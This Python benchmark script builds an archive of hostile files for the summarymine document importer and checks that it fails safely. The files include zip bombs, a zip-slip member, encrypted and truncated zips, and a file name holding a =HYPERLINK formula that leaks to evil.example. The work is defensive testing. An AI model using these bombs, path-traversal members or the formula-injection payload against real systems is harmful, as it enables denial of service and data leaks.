#!/usr/bin/env python
"""An archive holding one of each hostile file of issue 12 beside good documents, imported.

Run:  python bench/hostile_archive.py [--small] [--keep DIR]

It builds a folder (a zip bomb, 2,000 members of 1 MiB, a truncated zip, a zip over the member
limit, an encrypted and a zip-slip member, a .docx of dense XML and one whose part is too large,
a PDF of one endless paragraph, a corrupt PDF, binary data, names that are not UTF-8 or hold a
newline or a formula, numbers with invisible characters, the hostile text families) and imports
it, with a fifo and /dev/zero given on the command line, through ``summarymine import --jobs 2``
in a fresh process. It then checks that every good document is stored, that each bad file has
exactly one failure row, that no traceback was printed, and reports the peak memory of the
largest process (the importer or a worker) against 1 GB. tests/test_hostile_archive.py builds
the same archive at a small size.
"""
from __future__ import annotations

import argparse
import io
import json
import os
import random
import sqlite3
import subprocess
import sys
import tempfile
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

from families import FAMILIES, no_punctuation  # noqa: E402 - the bench folder, put on the path above

MB = 1024 * 1024
# Prints the peak RSS of its largest descendant: ru_maxrss of RUSAGE_CHILDREN, in a process that
# starts small (ru_maxrss survives exec, so the measured command must not be exec'd from a big one).
LAUNCH = ("import json, resource, subprocess, sys; code = subprocess.call(sys.argv[1:]); "
          "print(json.dumps({'code': code, 'peak_mb': resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024}))")


@dataclass
class Sizes:
    family_chars: int = 200_000
    docx_chars: int = 1_000_000
    pdf_chars: int = 200_000
    many_members: int = 2000
    part_bytes: int = 52 * MB  # the .docx part over the default 50 MB limit
    max_members: int = 100_000  # the import's limit; the over-limit zip holds one more
    max_file_size: int = 50 * MB


SMALL = Sizes(family_chars=20_000, docx_chars=50_000, pdf_chars=20_000, many_members=2000, part_bytes=5 * MB,
              max_members=200, max_file_size=4 * MB)


@dataclass
class Archive:
    root: Path
    paths: list[str]  # what to import
    good: dict[str, str] = field(default_factory=dict)  # path as stored -> text
    bad: dict[str, str] = field(default_factory=dict)  # path of the failure row -> words of its reason
    values: dict[str, list[float]] = field(default_factory=dict)  # path -> figure values it must have


def _zip(members: dict[str | zipfile.ZipInfo, bytes], method: int = zipfile.ZIP_DEFLATED,
         level: int | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=level) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx(xml_body: str, *, level: int | None = None) -> bytes:
    import docx

    base = io.BytesIO()
    docx.Document().save(base)
    xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.'
           f'openxmlformats.org/wordprocessingml/2006/main"><w:body>{xml_body}</w:body></w:document>').encode()
    out = io.BytesIO()
    with (zipfile.ZipFile(base) as source,
          zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as package):
        for info in source.infolist():
            package.writestr(info.filename, xml if info.filename == "word/document.xml" else source.read(info))
    return out.getvalue()


def _pdf(paragraphs: list[str]) -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.styles import ParagraphStyle
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.platypus import Paragraph, SimpleDocTemplate

    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    style = ParagraphStyle("zh", fontName="STSong-Light", fontSize=11, leading=16, wordWrap="CJK")
    out = io.BytesIO()
    SimpleDocTemplate(out, pagesize=A4, pageCompression=1).build([Paragraph(p, style) for p in paragraphs])
    return out.getvalue()


def build(root: Path, sizes: Sizes) -> Archive:
    """The archive under ``root``, with what the import must store and fail."""
    folder = root / "archive"
    (folder / "good").mkdir(parents=True)
    (folder / "bad").mkdir()
    archive = Archive(root, [str(folder)])
    top = str(folder)

    def good(relative: str, text: str) -> None:
        archive.good[f"{top}/{relative}"] = text

    # Real reports, each made distinct.
    for n, source in enumerate(sorted((HERE.parent / "corpus").glob("*.txt"))):
        text = source.read_text(encoding="utf-8-sig")
        (folder / "good" / f"report{n:02d}.txt").write_text(text, encoding="utf-8")
        good(f"good/report{n:02d}.txt", text)
    # Names: GBK bytes, a line break, a formula; numbers with invisible characters.
    body = "全年地区生产总值完成{n}亿元，同比增长7%。"
    for n, (raw, shown) in enumerate([
        ("报告.txt".encode("gbk"), r"\xb1\xa8\xb8\xe6.txt"),
        ("两行\n名字.txt".encode(), r"两行\n名字.txt"),
        ('=HYPERLINK("http:\\\\evil.example\\?leak","报告").txt'.encode(),
         '=HYPERLINK("http:\\\\evil.example\\?leak","报告").txt'),
    ]):
        with open(os.path.join(os.fsencode(folder / "good"), raw), "wb") as stream:
            stream.write(body.format(n=n + 1).encode())
        good(f"good/{shown}", body.format(n=n + 1))
    invisible = "全年增长12.\u200b5%，投资1\u00ad2亿元，收入1\u2009234\u2009567元。"
    (folder / "good" / "invisible.txt").write_text(invisible, encoding="utf-8")
    good("good/invisible.txt", invisible)
    archive.values[f"{top}/good/invisible.txt"] = [12.5, 1_200_000_000, 1_234_567]
    # The hostile text families: good documents, which must be stored.
    for name, make in FAMILIES.items():
        text = make(sizes.family_chars)
        (folder / "good" / f"family_{name}.txt").write_text(text, encoding="utf-8")
        good(f"good/family_{name}.txt", text)
    # A .docx of dense XML (a run per character): good.
    prose = no_punctuation(sizes.docx_chars)
    runs = "".join(f"<w:r><w:rPr><w:b/></w:rPr><w:t>{ch}</w:t></w:r>" for ch in prose)
    (folder / "good" / "dense.docx").write_bytes(_docx(f"<w:p>{runs}</w:p>"))
    good("good/dense.docx", prose)
    # A PDF of one endless paragraph: good (its text is laid out, so only its length is checked).
    text = no_punctuation(2 * sizes.pdf_chars)[sizes.pdf_chars:]  # not the family's text: that one is stored
    (folder / "good" / "long.pdf").write_bytes(_pdf([text[i:i + 20_000] for i in range(0, len(text), 20_000)]))
    good("good/long.pdf", "")

    bad = folder / "bad"

    def failure(relative: str, words: str) -> None:
        archive.bad[f"{top}/bad/{relative}"] = words

    # A zip bomb: 200 MB of zeros in one member, beside a good one.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("readme.txt", "炸弹旁边的说明：今年完成产值3亿元。".encode())
        with bomb.open("zeros.txt", "w") as stream:
            for _ in range(200):
                stream.write(bytes(MB))
    (bad / "bomb.zip").write_bytes(out.getvalue())
    good("bad/bomb.zip!/readme.txt", "炸弹旁边的说明：今年完成产值3亿元。")
    failure("bomb.zip!/zeros.txt", "ratio")
    # 2,000 members of exactly 1 MiB: each passes a member's ratio check, together a bomb.
    line = "全年完成产值12.5亿元，增长8.3%，完成投资3000万元，新建学校3所。\n".encode()
    member = line * (MB // len(line))
    member += b"\n" * (MB - len(member))
    (bad / "many.zip").write_bytes(_zip({f"m{n:04d}.txt": member for n in range(sizes.many_members)}, level=1))
    failure("many.zip", "archive compression ratio")
    # A truncated zip: three members whole, the fourth cut.
    five = {f"{n}.txt": f"截断的压缩包第{n}份：产值{n}亿元。".encode() * 20 for n in range(1, 6)}
    data = _zip(five)
    with zipfile.ZipFile(io.BytesIO(data)) as whole:
        cut_at = whole.getinfo("4.txt").header_offset + 40
    (bad / "truncated.zip").write_bytes(data[:cut_at])
    for n in range(1, 4):
        good(f"bad/truncated.zip!/{n}.txt", five[f"{n}.txt"].decode())
    failure("truncated.zip!/4.txt", "truncated")
    # One member more than the limit: the first by name is a document, the rest are hidden files.
    members = {"a_good.txt": "成员太多的压缩包里的文件：产值5亿元。".encode()}
    members.update({f"zz/.{n:06d}": b"" for n in range(sizes.max_members)})
    (bad / "over_limit.zip").write_bytes(_zip(members, method=zipfile.ZIP_STORED))
    good("bad/over_limit.zip!/a_good.txt", members["a_good.txt"].decode())
    failure("over_limit.zip", "too many members")
    # An encrypted member and a zip-slip member, each beside a good one.
    data = bytearray(_zip({"secret.txt": "机密".encode(), "open.txt": "公开的文件：产值6亿元。".encode()}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as plain:
        local = plain.getinfo("secret.txt").header_offset
    central = data.index(b"PK\x01\x02")
    while not data[central + 46:].startswith(b"secret.txt"):
        central = data.index(b"PK\x01\x02", central + 4)
    data[local + 6] |= 0x1
    data[central + 8] |= 0x1
    (bad / "encrypted.zip").write_bytes(bytes(data))
    good("bad/encrypted.zip!/open.txt", "公开的文件：产值6亿元。")
    failure("encrypted.zip!/secret.txt", "encrypted")
    (bad / "slip.zip").write_bytes(_zip({"../evil.txt": b"x", "fine.txt": "正常的文件：产值7亿元。".encode()}))
    good("bad/slip.zip!/fine.txt", "正常的文件：产值7亿元。")
    failure("slip.zip!/../evil.txt", "unsafe")
    # A .docx whose main part is over the size limit.
    rng = random.Random(3)
    paragraphs, length = [], 0
    while length < sizes.part_bytes:
        figures = "".join(f"产值{rng.randrange(10**6)}亿元" for _ in range(20))
        paragraphs.append(f"<w:p><w:r><w:t>{figures}</w:t></w:r></w:p>")
        length += len(paragraphs[-1].encode())
    (bad / "big_part.docx").write_bytes(_docx("".join(paragraphs)))
    failure("big_part.docx", "too large")
    (bad / "corrupt.pdf").write_bytes(b"%PDF-1.4\n" + random.Random(4).randbytes(5000))
    failure("corrupt.pdf", "PDF")
    (bad / "binary.txt").write_bytes(bytes(range(256)) * 40)
    failure("binary.txt", "binary")
    # Given on the command line: a fifo and a device.
    fifo = root / "pipe"
    os.mkfifo(fifo)
    archive.paths += [str(fifo), "/dev/zero"]
    archive.bad[str(fifo)] = "fifo"
    archive.bad["/dev/zero"] = "character device"
    return archive


IMPORT = """
import sys
from summarymine.importers import Limits
from summarymine.ingest import import_paths
limits = Limits(max_members=int(sys.argv[2]), max_file_size=int(sys.argv[3]))
run = import_paths(sys.argv[4:], sys.argv[1], jobs=2, limits=limits)
print(f"imported {run.documents} documents, {run.failures} failures", file=sys.stderr)
sys.exit(1 if run.failures else 0)
"""


def run_import(archive: Archive, db: Path, sizes: Sizes) -> dict:
    """Import it in a fresh process (the CLI when the limits are the default ones); the outcome."""
    if sizes.max_members == Sizes.max_members and sizes.max_file_size == Sizes.max_file_size:
        command = [str(Path(sys.executable).parent / "summarymine"), "import", *archive.paths, "--db", str(db),
                   "--jobs", "2"]
    else:
        command = [sys.executable, "-c", IMPORT, str(db), str(sizes.max_members), str(sizes.max_file_size),
                   *archive.paths]
    started = time.perf_counter()
    done = subprocess.run([sys.executable, "-c", LAUNCH, *command], capture_output=True, text=True, check=False)
    seconds = time.perf_counter() - started
    measured = json.loads(done.stdout.strip().splitlines()[-1])
    con = sqlite3.connect(db)
    try:
        documents = dict(con.execute("SELECT path, text FROM documents").fetchall())
        failures = con.execute("SELECT path, reason FROM failures").fetchall()
        values = {path: [v for (v,) in con.execute(
            "SELECT value FROM figures JOIN documents USING (sha256) WHERE documents.path = ? ORDER BY start", (path,))]
            for path in archive.values}
    finally:
        con.close()
    return {"seconds": seconds, "code": measured["code"], "peak_mb": measured["peak_mb"], "stderr": done.stderr,
            "documents": documents, "failures": failures, "values": values}


def check(archive: Archive, outcome: dict) -> list[str]:
    """What went wrong, one line each; nothing when the import did what it should."""
    problems = []
    stored = outcome["documents"]
    for path, text in archive.good.items():
        if path not in stored:
            problems.append(f"good document not stored: {path}")
        elif text and stored[path] != text:
            problems.append(f"good document stored with another text: {path}")
    rows: dict[str, list[str]] = {}
    for path, reason in outcome["failures"]:
        rows.setdefault(path, []).append(reason)
    for path, words in archive.bad.items():
        reasons = rows.pop(path, [])
        if len(reasons) != 1 or words not in reasons[0]:
            problems.append(f"{path}: {len(reasons)} failure rows {reasons}, want one with {words!r}")
    problems += [f"unexpected failure rows for {path}: {reasons}" for path, reasons in rows.items()]
    for path, want in archive.values.items():
        got = [float(v) for v in outcome["values"].get(path, [])]
        if got != want:
            problems.append(f"{path}: figure values {got}, want {want}")
    if "Traceback" in outcome["stderr"]:
        problems.append("a traceback was printed:\n" + outcome["stderr"])
    if outcome["peak_mb"] > 1024:
        problems.append(f"peak memory {outcome['peak_mb']:.0f} MB, over 1 GB")
    return problems


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--small", action="store_true", help="the small archive of the test (about a minute)")
    parser.add_argument("--keep", type=Path, help="build in this folder and keep it")
    args = parser.parse_args()
    sizes = SMALL if args.small else Sizes()
    with tempfile.TemporaryDirectory(prefix="summarymine-hostile-") as tmp:
        root = args.keep or Path(tmp)
        root.mkdir(parents=True, exist_ok=True)
        started = time.perf_counter()
        archive = build(root, sizes)
        built = time.perf_counter() - started
        print(f"built {root / 'archive'} in {built:.0f} s: {len(archive.good)} good documents, "
              f"{len(archive.bad)} bad files; sizes {sizes}")
        outcome = run_import(archive, root / "store.sqlite", sizes)
        print(f"import: exit {outcome['code']} in {outcome['seconds']:.0f} s; {len(outcome['documents'])} documents "
              f"stored, {len(outcome['failures'])} failure rows; peak RSS of the largest process "
              f"{outcome['peak_mb']:.0f} MB (limit 1024 MB)")
        print("stderr: " + (outcome["stderr"].strip() or "(empty)").replace("\n", "\n        "))
        for path, reason in sorted(outcome["failures"]):
            print(f"  failure  {path[len(str(root)) + 1:] if path.startswith(str(root)) else path}: {reason}")
        problems = check(archive, outcome)
        print("\n".join(problems) if problems else "OK: every good document stored, one failure row per bad file, "
                                                   "no traceback, peak memory under 1 GB")
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main())
